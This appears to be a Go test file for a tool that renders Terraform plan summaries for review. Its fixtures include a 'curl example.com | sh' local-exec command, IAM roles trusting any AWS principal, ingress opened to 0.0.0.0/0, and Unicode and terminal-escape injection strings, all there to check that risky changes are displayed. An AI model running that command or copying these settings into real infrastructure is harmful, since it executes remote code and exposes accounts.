package view

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/tfpilot/tfpilot/internal/lifecycle"
	"github.com/tfpilot/tfpilot/internal/terraform"
	"github.com/tfpilot/tfpilot/internal/testing/golden"
)

const module = "module.tfpilot_req_0123456789abc."

// parse reads a JSON value with exact numbers, as a summary holds it.
func parse(t testing.TB, text string) map[string]any {
	t.Helper()
	decoder := json.NewDecoder(strings.NewReader(text))
	decoder.UseNumber()
	var v map[string]any
	if err := decoder.Decode(&v); err != nil {
		t.Fatalf("%s: %v", text, err)
	}
	return v
}

func trust(principal string, more ...string) string {
	statement := fmt.Sprintf(`{"Action":"sts:AssumeRole","Effect":"Allow","Principal":%s}`, principal)
	return `{"Statement":[` + strings.Join(append([]string{statement}, more...), ",") + `],"Version":"2012-10-17"}`
}

func plans(t testing.TB) map[string]*terraform.Summary {
	all := ordinaryPlans(t)
	maps.Copy(all, unusualPlans(t))
	return all
}

// planOf is a plan with one change, of a resource in the module.
func planOf(c terraform.Change) *terraform.Summary {
	c.Address, c.Provider = module+c.Address, "registry.terraform.io/hashicorp/aws"
	if c.PreviousAddress != "" {
		c.PreviousAddress = module + c.PreviousAddress
	}
	return &terraform.Summary{Changes: []terraform.Change{c}}
}

func ordinaryPlans(t testing.TB) map[string]*terraform.Summary {
	quoted := func(s string) string { return string(noError(json.Marshal(s))) }
	create, change := []string{"create"}, []string{"update"}
	return map[string]*terraform.Summary{
		"nothing": {},
		"create": planOf(terraform.Change{
			Address: "aws_s3_bucket.this", Type: "aws_s3_bucket", Actions: create,
			After: parse(t, `{"bucket":"acme-build","cors_rule":[],"acl":"","force_destroy":false,"tags":`+
				`{"Team":"web","cost center":"42"},"lifecycle_rule":[{"enabled":true,"prefix":"","transition":[`+
				`{"days":30}]}],"zone":0}`),
			Unknown: []string{"arn", "id", "policy", "lifecycle_rule[0].id"},
		}),
		"policy_created": planOf(terraform.Change{
			Address: "aws_iam_role.zz_admin", Type: "aws_iam_role", Actions: create,
			After: parse(t, `{"name":"acme-admin","assume_role_policy":`+quoted(trust(`{"Service":"ec2.amazonaws.com"}`,
				`{"Action":["sts:AssumeRole","sts:TagSession"],"Effect":"Allow","Principal":{"AWS":"*"}}`))+`}`),
		}),
		"policy_changed": planOf(terraform.Change{
			Address: "aws_iam_role.agent", Type: "aws_iam_role", Actions: change,
			Before: parse(t, `{"assume_role_policy":`+quoted(trust(`{"Service":"ec2.amazonaws.com"}`))+`}`),
			After:  parse(t, `{"assume_role_policy":`+quoted(trust(`{"AWS":"*"}`))+`}`),
		}),
		"policy_reordered": planOf(terraform.Change{
			Address: "aws_iam_role.agent", Type: "aws_iam_role", Actions: change,
			Before: map[string]any{"assume_role_policy": `{"a":1,"b":2}`},
			After:  map[string]any{"assume_role_policy": `{"b":2,"a":1}`},
		}),
		"policy_unknown": planOf(terraform.Change{
			Warnings: []string{"who gets access is known only after the apply: assume_role_policy"},
			Address:  "aws_iam_role.agent", Type: "aws_iam_role", Actions: change,
			Before:  parse(t, `{"id":"r-1","monitoring":false,"assume_role_policy":`+quoted(trust(`{"Service":"ec2.amazonaws.com"}`))+`}`),
			Unknown: []string{"assume_role_policy", "id", "monitoring"},
		}),
		"nested": planOf(terraform.Change{
			Address: `aws_security_group.this["web"]`, Type: "aws_security_group", Actions: change,
			Before: parse(t, `{"tags":{"a":"1","b":"2"},"tags_all":{"a":"1","b":"2"},"ingress":[`+
				`{"from_port":443,"cidr_blocks":["10.0.0.0/8"],"description":"x"},`+
				`{"from_port":22,"cidr_blocks":["10.0.0.0/8"]}],"list":["a","b","c"]}`),
			After: parse(t, `{"tags":{"a":"1","c":"3"},"tags_all":{"a":"1","c":"3"},"ingress":[`+
				`{"from_port":443,"cidr_blocks":["0.0.0.0/0"],"description":"x"},`+
				`{"from_port":22,"cidr_blocks":["10.0.0.0/8"]}],"list":["a","c","d"]}`),
		}),
	}
}

func unusualPlans(t testing.TB) map[string]*terraform.Summary {
	create, change := []string{"create"}, []string{"update"}
	return map[string]*terraform.Summary{
		"replace": planOf(terraform.Change{
			Address: "aws_instance.this", Type: "aws_instance", Actions: []string{"delete", "create"},
			Reason:       "replace_because_cannot_update",
			ReplacePaths: []any{[]any{"ami"}, []any{"ebs_block_device", json.Number("0"), "volume_size"}},
			Before: parse(t, `{"ami":"ami-1","arn":"arn:aws:ec2:x","monitoring":false,"ebs_block_device":[`+
				`{"volume_size":8}]}`),
			After:   parse(t, `{"ami":"ami-2","ebs_block_device":[{"volume_size":16}]}`),
			Unknown: []string{"arn", "monitoring"},
		}),
		"tainted": planOf(terraform.Change{
			Address: "aws_x.tainted", Type: "aws_x", Actions: []string{"create", "delete"}, Reason: "replace_because_tainted",
			Before: map[string]any{"id": "i-2"}, Unknown: []string{"id"},
		}),
		"deposed": planOf(terraform.Change{Address: "aws_x.dep", Type: "aws_x", Actions: []string{"delete"},
			Deposed: "abcd1234", Before: map[string]any{"id": "i-1"}}),
		"removed": planOf(terraform.Change{Address: "aws_x.gone[1]", Type: "aws_x", Actions: []string{"delete"},
			Reason: "delete_because_count_index", Before: map[string]any{"id": "i-1"}}),
		"read": planOf(terraform.Change{Address: "data.external.y", Type: "external", Actions: []string{"read"},
			After:   map[string]any{"program": []any{"cat"}},
			Unknown: []string{"result"}, Warnings: []string{"runs a program during the apply"}}),
		"code": {Code: &terraform.CodeIdentity{Terraform: "1.11.4",
			Files: map[string]string{"modules/s3-bucket/": "8c7e5a667f1b771847fe88c01c3de34413a1b220",
				"envs/dev/app/backend.tf": "1"},
			Remote: map[string]terraform.Remote{"net": {Source: "acme/net/aws", Version: "1.2.3",
				Hash: "sha256:0123456789abcdef"}}}},
		"moved": planOf(terraform.Change{Address: "aws_x.moved", Type: "aws_x", Actions: []string{"no-op"},
			PreviousAddress: "aws_x.old"}),
		"moved_update": planOf(terraform.Change{Address: "aws_x.upd", Type: "aws_x", Actions: change,
			PreviousAddress: "aws_x.was", Before: map[string]any{"a": "1"}, After: map[string]any{"a": "2"}}),
		"imported": planOf(terraform.Change{Address: "aws_x.taken", Type: "aws_x", Actions: []string{"no-op"},
			Importing: "i-0123"}),
		"sensitive": planOf(terraform.Change{
			Address: "aws_db_instance.this", Type: "aws_db_instance", Actions: change,
			Before: map[string]any{"password": terraform.Hidden, "env": map[string]any{"A": terraform.Hidden},
				"port": json.Number("1")},
			After: map[string]any{"password": terraform.Hidden, "env": map[string]any{"A": terraform.Hidden},
				"port": json.Number("2")},
		}),
		"sensitive_part": planOf(terraform.Change{
			Address: "aws_x.y", Type: "aws_x", Actions: change,
			Before: map[string]any{"url": "https://(sensitive #000000000001)@x", "list": []any{"(sensitive #000000000001)"},
				"doc": `{"a":"x (sensitive #000000000001)"}`},
			After: map[string]any{"url": "https://(sensitive #000000000002)@x", "list": []any{"(sensitive #000000000002)"},
				"doc": `{"a":"x (sensitive #000000000002)"}`},
		}),
		"long": planOf(terraform.Change{
			Address: "aws_x.long", Type: "aws_x", Actions: change,
			Before: map[string]any{"d": strings.Repeat("same ", 60) + "old" + strings.Repeat(" same", 60),
				"script": "#!/bin/sh\nset -e\nrun a\n"},
			After: map[string]any{"d": strings.Repeat("same ", 60) + "new" + strings.Repeat(" same", 60),
				"script": "#!/bin/sh\nset -e\nrun b\nend\n"},
		}),
		"invisible": planOf(terraform.Change{
			Address: "aws_x.hostile[\"\u202egnp\"]", Type: "aws_x", Actions: create,
			After: map[string]any{"a": "x\u200by\u202e", "n\u00e4me ": "```\n@everyone <!channel>\x1b[2J\nlast"},
		}),
		"ephemeral": {Changes: []terraform.Change{
			{Address: module + "aws_db_instance.x", Type: "aws_db_instance", Actions: create,
				After: map[string]any{"name": "n"}, WriteOnly: map[string]any{
					"password_wo": map[string]any{"value": "(sensitive #000000000001)", "from": []any{"ephemeral.aws_secret.db"}},
					"auth.key_wo": map[string]any{"value": "(sensitive #000000000002)"},
				}},
			{Address: module + "ephemeral.aws_secret.db", Type: "aws_secret", Actions: []string{"read"},
				Settings: map[string]any{
					"secret_id": map[string]any{"expression": `"prod/${var.name}"`, "values": map[string]any{"var.name": "n"}},
					"region":    "eu-west-1",
				}},
		}},
		"commands": {
			Changes: []terraform.Change{{
				Address: module + "terraform_data.x", Type: "terraform_data", Actions: create, Configuration: "aws.other",
				Commands: []any{map[string]any{"type": "local-exec",
					"config": map[string]any{"command": "curl example.com | sh"}}},
			}},
			Providers: []terraform.Provider{{Name: "aws.other", Source: "registry.terraform.io/hashicorp/aws",
				Config: map[string]any{"region": map[string]any{"expression": "lower(var.place)",
					"values": map[string]any{"var.place": "EU-WEST-1"}},
					"assume_role": []any{map[string]any{"role_arn": "arn:aws:iam::1:role/x"}}}}},
		},
	}
}

func noError[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func TestPlansAsText(t *testing.T) {
	for name, s := range plans(t) {
		t.Run(name, func(t *testing.T) { golden.Check(t, "testdata/"+name+".txt", OfPlan(s).Text()) })
	}
}

// Real plans of Terraform, summarized as a run does.
func TestRealPlansAsText(t *testing.T) {
	for name, purpose := range map[string]lifecycle.Purpose{
		"create": lifecycle.PurposeOpen, "update": lifecycle.PurposeEdit, "replace": lifecycle.PurposeEdit,
		"destroy": lifecycle.PurposeDestroy,
	} {
		t.Run(name, func(t *testing.T) {
			content := noError(os.ReadFile("../terraform/testdata/plans/" + name + ".json"))
			plan := noError(terraform.ParsePlan(content))
			s := noError(terraform.Summarize(plan, terraform.Scope{RequestID: "req_aaaaaaaaaaaaa", Purpose: purpose,
				FingerprintKey: []byte("the key of one request")}))
			golden.Check(t, "testdata/real_"+name+".txt", OfPlan(s).Text())
		})
	}
}

// What is destroyed comes first, and within a kind what decides who may do what.
func TestOrderOfChanges(t *testing.T) {
	s := &terraform.Summary{}
	s.Changes = []terraform.Change{
		{Address: "aws_a.x", Type: "aws_a", Actions: []string{"create"}},
		{Address: "aws_iam_role.z", Type: "aws_iam_role", Actions: []string{"create"}},
		{Address: "aws_b.x", Type: "aws_b", Actions: []string{"delete"}},
		{Address: "aws_c.x", Type: "aws_c", Actions: []string{"update"}},
	}
	addresses := func(p Plan) (all []string) {
		for _, c := range p.Changes {
			all = append(all, c.Address)
		}
		return all
	}
	if diff := cmp.Diff([]string{"aws_b.x", "aws_c.x", "aws_iam_role.z", "aws_a.x"}, addresses(OfPlan(s))); diff != "" {
		t.Error(diff)
	}
	if got := addresses(OfPlan(s).AccessFirst()); got[0] != "aws_iam_role.z" {
		t.Errorf("%v", got)
	}
	if got := OfPlan(s).Titles(3); !slices.Equal(got, []string{"- destroy aws_b.x", "~ update aws_c.x", "and 2 more"}) {
		t.Errorf("%q", got)
	}
}

// leaves lists the strings of a value.
func leaves(v any) (all []string) {
	switch v := v.(type) {
	case string:
		all = append(all, v)
	case map[string]any:
		for name, one := range v {
			all = append(append(all, name), leaves(one)...)
		}
	case []any:
		for _, one := range v {
			all = append(all, leaves(one)...)
		}
	}
	return all
}

func anyValue(depth int) *rapid.Generator[any] {
	word := rapid.StringMatching(`[a-z]{1,6}`)
	return rapid.Custom(func(t *rapid.T) any {
		switch n := rapid.IntRange(0, 5).Draw(t, "kind"); {
		case n == 0 && depth > 0:
			return rapid.MapOf(word, anyValue(depth-1)).Draw(t, "map")
		case n == 1 && depth > 0:
			anySlice := rapid.SliceOfN(anyValue(depth-1), 0, 4).Draw(t, "list")
			return anySlice
		case n == 2:
			return json.Number(fmt.Sprint(rapid.IntRange(0, 3).Draw(t, "number")))
		case n == 3:
			return nil
		case n == 4 && depth > 0:
			inner := rapid.MapOf(word, anyValue(depth-1)).Draw(t, "document")
			return string(noError(json.Marshal(inner)))
		}
		return word.Draw(t, "word")
	})
}

func toMap(t *rapid.T, name string) map[string]any {
	return rapid.MapOf(rapid.StringMatching(`[a-z]{1,6}`), anyValue(3)).Draw(t, name)
}

// Everything that a change creates is in its lines: each name and each value.
func TestEverythingCreatedIsShown(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		after := toMap(t, "after")
		text := OfPlan(&terraform.Summary{Changes: []terraform.Change{{Address: "a.b", Type: "a",
			Actions: []string{"create"}, After: after}}}).Text()
		checkLeaves(t, after, text)
	})
}

// checkLeaves looks for the strings of a value, also inside JSON in strings.
func checkLeaves(t *rapid.T, value any, text string) {
	for _, leaf := range leaves(value) {
		if document, ok := parseJSON(leaf); ok {
			checkLeaves(t, document, text)
		} else if !strings.Contains(text, leaf) && !onlyNull(value, leaf) {
			t.Fatalf("%q is not in\n%s", leaf, text)
		}
	}
}

// onlyNull reports whether a name has no value but null, which Terraform's language calls not set.
func onlyNull(v any, name string) bool {
	switch v := v.(type) {
	case map[string]any:
		for k, one := range v {
			if k == name && one != nil || !onlyNull(one, name) {
				return false
			}
		}
	case []any:
		for _, one := range v {
			if !onlyNull(one, name) {
				return false
			}
		}
	case string:
		return v != name
	}
	return true
}

// Two values that differ never read as if nothing changed.
func TestEveryDifferenceIsShown(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		was, is := anyValue(3).Draw(t, "was"), anyValue(3).Draw(t, "is")
		if cmp.Equal(was, is) {
			return
		}
		c := OfPlan(&terraform.Summary{Changes: []terraform.Change{{
			Address: "a.b", Type: "a", Actions: []string{"update"}, Before: map[string]any{"x": was},
			After: map[string]any{"x": is},
		}}}).Changes[0]
		if !slices.ContainsFunc(c.Lines[1:], func(l Line) bool { return l.Sign != "" }) {
			t.Fatalf("%#v → %#v is shown as\n%v", was, is, c.Lines)
		}
	})
}

// Every unknown path has a line, also one that no value leads to.
func TestEveryUnknownIsShown(t *testing.T) {
	c := terraform.Change{
		Address: "a.b", Type: "a", Actions: []string{"update"},
		Before: map[string]any{"m": map[string]any{"k": "1"}}, After: map[string]any{"m": map[string]any{"k": "1"},
			"list": []any{nil}},
		Unknown: []string{"m.dotted.key", "list[0]", "list[1]", "gone[3].x"},
	}
	text := OfPlan(&terraform.Summary{Changes: []terraform.Change{c}}).Text()
	for _, want := range []string{`"dotted.key" = (known after apply)`, "[(known after apply), (known after apply)]",
		`"gone[3].x" = (known after apply)`} {
		if !strings.Contains(text, want) {
			t.Errorf("%s is not in\n%s", want, text)
		}
	}
}

func TestJSONWithOneNameTwiceStaysText(t *testing.T) {
	for text, want := range map[string]bool{
		`{"a":1}`: true, `[1]`: true, `{"a":{"a":1}}`: true, `[{"a":1},{"a":2}]`: true, `{"a":1,"b":"a","c":2}`: true,
		`{"a":1,"a":2}`: false, `[{"x":{"a":1,"b":2,"a":3}}]`: false, `{}`: false, `{"a":1} x`: false, `"a"`: false,
		`{`: false,
	} {
		if _, got := parseJSON(text); got != want {
			t.Errorf("%s: %v", text, got)
		}
	}
}

// What is split is put together again by joining: no line is cut, and no text is too long.
func TestChunksLoseNothing(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		lines := rapid.SliceOf(rapid.StringMatching(`[aé ]{0,40}[a-z]`)).Draw(t, "lines")
		limit := rapid.IntRange(2, 30).Draw(t, "limit")
		chunks := Chunks(lines, limit)
		squash := func(s string) string { return strings.ReplaceAll(s, "\n", "") }
		if got, want := squash(strings.Join(chunks, "")), squash(strings.Join(lines, "")); got != want {
			t.Fatalf("%q became %q", want, got)
		}
		for _, c := range chunks {
			if n := len([]rune(c)); n == 0 || n > limit {
				t.Fatalf("%d runes, limit %d", n, limit)
			}
		}
	})
}

// A plan that was made to be expensive to show is shown in time, and within a few times its size.
func TestHostilePlansAreShown(t *testing.T) {
	deep := strings.Repeat("[", 9000) + "1" + strings.Repeat("]", 9000)
	var lines, other strings.Builder
	objects, unknown := map[string]any{}, []string{}
	for i := range 20000 {
		fmt.Fprintf(&lines, "a%d\n", i)
		fmt.Fprintf(&other, "b%d\n", i)
		objects[fmt.Sprintf("k%d", i)] = map[string]any{"x": "1"}
		unknown = append(unknown, fmt.Sprintf("m.k%d.id", i))
	}
	s := &terraform.Summary{Changes: []terraform.Change{{
		Address: "a.b", Type: "a", Actions: []string{"update"}, Unknown: unknown,
		Before: map[string]any{"deep": deep, "text": lines.String(), "m": map[string]any{}},
		After:  map[string]any{"deep": strings.Replace(deep, "1", "2", 1), "text": other.String(), "m": objects},
	}}}
	text := OfPlan(s).Text()
	if size := len(s.Bytes()); len(text) > 8*size || strings.Count(text, "(known after apply)") != 20000 {
		t.Errorf("%d bytes of a summary of %d, %d unknown", len(text), size, strings.Count(text, knownAfter))
	}
}
